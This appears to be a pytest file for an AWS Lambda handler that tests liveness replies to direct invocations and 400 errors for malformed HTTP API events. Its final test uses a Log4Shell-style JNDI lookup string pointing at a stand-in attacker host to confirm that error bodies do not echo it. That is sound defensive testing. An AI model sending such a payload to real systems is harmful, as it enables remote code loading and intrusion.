"""Events that are not HTTP API requests never raise: direct invokes get liveness, malformed HTTP gets 400."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.conftest import load_event, logged, malformed
from tests.event_answers import LIVENESS

Invoke = Callable[[Any], Any]


@pytest.mark.parametrize(
    "event",
    [
        pytest.param(load_event("direct-invoke"), id="empty object (aws lambda invoke, sam --no-event)"),
        pytest.param(load_event("scheduled"), id="EventBridge schedule"),
        pytest.param(None, id="null"),
        pytest.param([], id="array"),
        pytest.param("ping", id="string"),
        pytest.param(42, id="number"),
        pytest.param({"Records": [{"eventSource": "aws:sqs"}]}, id="SQS batch"),
    ],
)
def test_a_direct_invocation_returns_the_liveness_payload(
    invoke: Invoke, event: Any, caplog: pytest.LogCaptureFixture
) -> None:
    assert invoke(event) == LIVENESS
    assert logged(caplog, "Direct invocation answered with liveness")["reason"].startswith("not an HTTP API request")


@pytest.mark.parametrize(
    ("event", "reason"),
    [
        pytest.param(load_event("malformed-http"), "requestContext.http: Field required", id="events/malformed-http"),
        pytest.param(malformed(lambda e: e.pop("requestContext")), "requestContext: Field required", id="no context"),
        pytest.param(malformed(lambda e: e.update(version="1.0")), "version: Input should be '2.0'", id="REST v1"),
        pytest.param(malformed(lambda e: e.update(rawPath=None)), "rawPath: Input should be a valid string", id="path"),
        pytest.param(
            malformed(lambda e: e["headers"].update({"x-n": 1})), "headers.*: Input should be a valid string", id="hdr"
        ),
        pytest.param(malformed(lambda e: e.update(isBase64Encoded="false")), "isBase64Encoded", id="b64 flag"),
        pytest.param(malformed(lambda e: e.update(cookies="a=b")), "cookies", id="cookies"),
        pytest.param({"httpMethod": "GET", "path": "/"}, "version: Field required", id="bare REST-like"),
    ],
)
def test_a_malformed_http_event_is_a_400_that_says_why(
    invoke: Invoke, event: dict[str, Any], reason: str, caplog: pytest.LogCaptureFixture
) -> None:
    response = invoke(event)
    assert response["statusCode"] == 400
    assert response["headers"]["Content-Type"] == "application/json"
    body = json.loads(response["body"])
    assert body["statusCode"] == 400
    assert body["message"].startswith("malformed HTTP API event: ")
    assert reason in body["message"]
    assert reason in logged(caplog, "Rejected malformed HTTP API event")["reason"]


@pytest.mark.parametrize("field", ["headers", "queryStringParameters"])
def test_a_400_masks_even_ordinary_looking_caller_names(invoke: Invoke, field: str) -> None:
    event = load_event("health")
    event[field] = {"Authorization": 1}
    message = json.loads(invoke(event)["body"])["message"]
    assert f"{field}.*: Input should be a valid string" in message
    assert "Authorization" not in message


def test_a_400_never_echoes_caller_chosen_names_or_values(invoke: Invoke) -> None:
    event = load_event("health")
    event["headers"]["${jndi:ldap://attacker.example/a}"] = ["not", "a", "string"]
    body = invoke(event)["body"]
    assert "jndi" not in body
    assert "attacker" not in body
